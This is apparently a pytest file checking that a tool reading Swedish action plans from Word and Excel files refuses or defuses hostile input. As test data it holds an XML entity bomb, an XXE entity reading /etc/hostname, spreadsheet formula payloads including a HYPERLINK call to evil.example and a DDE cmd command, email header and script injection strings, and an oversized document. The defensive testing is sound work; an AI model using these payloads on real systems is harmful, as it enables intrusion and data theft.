"""Files that are meant to harm; the number is that of the case in the list of hostile inputs."""

import zipfile
from pathlib import Path

import openpyxl
import pytest

from tests.workflow.plans.documents import activities, title, word_file
from tests.workflow.plans.reading_back import told_in_file, told_in_text
from workflow.errors import FileRefused
from workflow.plans import read_plan

LAUGHS = (
    '<?xml version="1.0"?><!DOCTYPE w [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;">]><w>&c;</w>'
)
HOST = '<?xml version="1.0"?><!DOCTYPE w [<!ENTITY e SYSTEM "file:///etc/hostname">]><w>&e;</w>'
FORMULAS = ('=HYPERLINK("http://evil.example/?"&A2,"Klart")', "=cmd|' /C calc'!A0", "+1", "-2+3", "@SUM(1)")


@pytest.mark.parametrize("breaks", ["\r\n", "\r", "\n", "\u2028", "\x85", "\x0b"])
def test_47_48_a_title_with_a_line_break_is_one_line(breaks: str) -> None:
    told = told_in_text(
        f'Åtgärd;Ansvarig;När\n"Tillsyn{breaks}Bcc: evil@x.example";Polisen;maj\nVandring;Polisen;juni\n'
    )
    assert [title for title, _, _ in told][1] == "Vandring"
    assert not any(character in told[0][0] for character in "\r\n\u2028\x85\x0b")


@pytest.mark.parametrize("name", ['Evil"\\r\\nBcc: a@b.example', "<script>alert(1)</script>", "{{7*7}}"])
def test_50_68_a_name_with_markup_is_a_text_like_any_other(name: str) -> None:
    told = told_in_text(f"Åtgärd;Ansvarig;När\nVandring {name};Polisen;maj\nRond;Polisen;juni\n")
    assert told[0][0].startswith("Vandring")


@pytest.mark.parametrize("formula", FORMULAS)
def test_83_a_title_that_looks_like_a_formula_is_read_as_text(tmp_path: Path, formula: str) -> None:
    path = word_file(tmp_path, title("Handlingsplan 2024"), activities((formula, "", "maj", "Polisen")))
    assert told_in_file(path)[0][0] == formula


def test_83_a_formula_in_a_sheet_is_never_calculated(tmp_path: Path) -> None:
    book = openpyxl.Workbook()
    sheet = book.active
    assert sheet is not None
    for row in (("Åtgärd", "Ansvarig", "När"), (FORMULAS[0], "Polisen", "maj"), ("Vandring", "Polisen", "juni")):
        sheet.append(row)
    book.save(tmp_path / "plan.xlsx")
    assert [title for title, _, _ in told_in_file(tmp_path / "plan.xlsx")][-1] == "Vandring"


def swapped(path: Path, part: str, content: str) -> Path:
    """Write a copy of an Office file with one part replaced."""
    target = path.with_name(f"evil{path.suffix}")
    with zipfile.ZipFile(path) as good, zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as evil:
        for name in good.namelist():
            evil.writestr(name, content if name == part else good.read(name))
    return target


def office_file(folder: Path, kind: str) -> tuple[Path, str]:
    if kind == "word":
        return word_file(folder, title("Plan"), activities(("Städdag", "", "maj", "Polisen"))), "word/document.xml"
    book = openpyxl.Workbook()
    book.save(folder / "plan.xlsx")
    return folder / "plan.xlsx", "xl/worksheets/sheet1.xml"


@pytest.mark.parametrize("kind", ["word", "excel"])
def test_85_a_file_that_swells_is_refused_before_it_is_parsed(tmp_path: Path, kind: str) -> None:
    path, part = office_file(tmp_path, kind)
    with pytest.raises(FileRefused, match="växer orimligt mycket"):
        read_plan(swapped(path, part, f"<w>{'<p/>' * 5_000_000}</w>"))


@pytest.mark.parametrize("content", [LAUGHS, HOST])
@pytest.mark.parametrize("kind", ["word", "excel"])
def test_86_entities_are_refused_with_a_clear_message(tmp_path: Path, kind: str, content: str) -> None:
    path, part = office_file(tmp_path, kind)
    with pytest.raises(FileRefused, match="dokumenttypsdeklaration"):
        read_plan(swapped(path, part, content))
